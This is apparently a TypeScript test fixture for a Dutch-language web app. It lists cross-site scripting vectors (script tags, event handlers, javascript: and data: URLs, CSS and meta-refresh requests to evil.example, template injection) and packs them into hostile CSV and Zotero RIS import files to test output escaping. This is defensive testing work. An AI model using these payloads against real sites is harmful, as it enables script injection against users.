/**
 * What a hostile colleague could put in every displayed text: script tags,
 * event handlers, SVG, javascript: and data: addresses, frames, style-based
 * requests, Markdown links and images. Each sets window.__pwned or opens a
 * dialog or fetches from evil.example if it ever runs.
 */
export const VECTORS = [
  `<script>window.__pwned='script';alert('script')</script>`,
  `<img src=x onerror="window.__pwned='img';alert('img')">`,
  `<svg onload="window.__pwned='svg';alert('svg')"><circle r=9 /></svg>`,
  `<iframe src="javascript:alert('iframe')"></iframe>`,
  `<a href="javascript:alert('a')">klik-a</a>`,
  `javascript:alert('url')`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<div style="background:url(https://evil.example/style.png)">stijl</div>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<link rel=stylesheet href=https://evil.example/link.css>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<object data="https://evil.example/x.swf"></object>`,
  `"><img src=x onerror=alert('attr')>`,
  `[md-link](javascript:alert('md'))`,
  `![md-img](https://evil.example/pixel.png)`,
  `[md-data](data:text/html,<script>alert(1)</script>)`,
  `{{constructor.constructor('alert(1)')()}}`,
] as const;

/** Tags are at most 60 characters: the short vectors. */
export const SHORT_VECTORS: [string, ...string[]] = [`<img src=x onerror=alert('tag')>`, `<svg onload=alert('tag')>`, `javascript:alert('tag')`, `<script>alert('tag')</script>`];

/** Every vector on its own line: for Markdown and plain long texts. */
export const ALL_VECTORS = VECTORS.join('\n\n');

const csvCell = (text: string) => `"${text.replace(/"/g, '""')}"`;

/** An HR spreadsheet of colleagues whose names and teams are hostile. */
export function hostileMembersCsv(): Buffer {
  const rows = VECTORS.map((vector, i) => [vector, `hr${i}@evil.example`, VECTORS[(i + 6) % VECTORS.length]!, vector, SHORT_VECTORS.join(', ')].map(csvCell).join(';'));
  return Buffer.from(['Naam;E-mail;Instelling;Team;Expertise', ...rows].join('\r\n'), 'utf8');
}

/** An attendee list of guests with hostile names. */
export function hostileAttendeesCsv(): Buffer {
  const rows = VECTORS.map((vector, i) => [vector, `gast${i}@evil.example`, 'aangemeld'].map(csvCell).join(';'));
  return Buffer.from(['Naam;E-mail;Status', ...rows].join('\r\n'), 'utf8');
}

/** A Zotero RIS export whose titles, authors and abstracts are hostile. */
export function hostileRis(): Buffer {
  const entries = VECTORS.slice(0, 8).map((vector) => ['TY  - RPRT', `TI  - ${vector}`, `AU  - ${vector}`, `AB  - ${VECTORS.join(' ')}`, `KW  - ${SHORT_VECTORS[0]}`, 'PY  - 2025', `UR  - ${VECTORS[5]}`, 'ER  - '].join('\r\n'));
  return Buffer.from(entries.join('\r\n\r\n'), 'utf8');
}
